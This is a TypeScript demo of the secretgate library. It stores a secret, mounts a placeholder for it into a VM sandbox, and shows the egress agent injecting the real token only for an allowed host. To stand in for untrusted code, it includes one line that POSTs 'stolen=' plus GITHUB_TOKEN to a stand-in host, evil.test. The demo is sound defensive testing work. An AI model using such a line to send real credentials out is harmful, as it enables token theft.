/**
 * secretgate in one page: store a secret, mount it into a sandbox, and watch the egress layer put
 * the real value into the sandbox's request, only for the allowed host, and scrub it from the reply.
 *
 * Run it: `pnpm demo`
 */
import { Secretgate } from "@secretgate/core"
import { MemorySecretStore } from "@secretgate/memory"
import { type AuditEvent, SecretgateAgent } from "@secretgate/undici"
import { fetch } from "undici"
import * as vm from "node:vm"
import { startLocalInternet } from "./support/localUpstream.js"

// 1. A secretgate client for the organization "acme", on the in-memory backend.
const gate = new Secretgate({ layer: MemorySecretStore.layer(), organizationId: "acme" })

// 2. Manage secrets: the API mirrors Daytona's SecretService.
const secret = await gate.secret.create({
  name: "github-token",
  value: "ghp_demo_0ld",
  description: "CI bot token",
  hosts: ["api.allowed.test"]
})
await gate.secret.update(secret.id, { value: "ghp_demo_R3al" }) // rotate: same placeholder, new value
console.log(`created secret ${secret.name}: placeholder ${secret.placeholder}, hosts ${secret.hosts.join(", ")}`)
console.log(`the organization has ${(await gate.secret.list()).length} secret(s); values are never returned`)

// 3. Mount it into a sandbox: the sandbox's environment holds only the placeholder.
const mount = await gate.mount({ GITHUB_TOKEN: "github-token" })
console.log(`sandbox env: GITHUB_TOKEN=${mount.env.GITHUB_TOKEN}`)

// 4. The sandbox's egress: a SecretgateAgent. (The "internet" here is a local HTTPS server that
//    answers for every host name and echoes what it receives.)
const internet = await startLocalInternet()
const audit: Array<AuditEvent.AuditEvent> = []
const agent = new SecretgateAgent({
  resolver: await gate.resolver(mount),
  agentOptions: internet.agentOptions,
  audit: (event) => audit.push(event)
})

// 5. Untrusted code runs in a VM context that has only the env map and a fetch through the agent.
const sandbox = vm.createContext({
  env: { ...mount.env },
  urls: { allowed: internet.url("api.allowed.test", "/user"), evil: internet.url("evil.test", "/collect") },
  fetch: (url: string, init?: RequestInit) => fetch(url, { ...(init as object), dispatcher: agent }),
  result: {} as Record<string, unknown>
})
await vm.runInContext(
  `(async () => {
    const reply = await fetch(urls.allowed, { headers: { authorization: "Bearer " + env.GITHUB_TOKEN } })
    result.echoed = (await reply.json()).youSent.authorization
    await fetch(urls.evil, { method: "POST", body: "stolen=" + env.GITHUB_TOKEN })
  })()`,
  sandbox
)

// 6. What happened.
const [allowed, evil] = internet.received
console.log("")
console.log(`api.allowed.test received   Authorization: ${allowed?.authorization}   <- the real value`)
console.log(`evil.test received          body: ${evil?.body}   <- only the placeholder`)
console.log(`the sandbox saw the echo    ${String((sandbox.result as { echoed: string }).echoed)}   <- scrubbed back`)
console.log("")
console.log("audit:")
for (const event of audit) {
  console.log(`  ${event.type.padEnd(11)} ${event.secret ?? "(unknown)"} -> ${event.host} (${event.surface}${"reason" in event ? `, ${event.reason}` : ""})`)
}

const ok = allowed?.authorization === "Bearer ghp_demo_R3al" &&
  evil?.body === `stolen=${mount.env.GITHUB_TOKEN}` &&
  (sandbox.result as { echoed: string }).echoed === `Bearer ${mount.env.GITHUB_TOKEN}`
console.log(ok ? "\nend to end: OK" : "\nend to end: UNEXPECTED RESULT")

await agent.close()
await internet.close()
await gate.dispose()
process.exitCode = ok ? 0 : 1
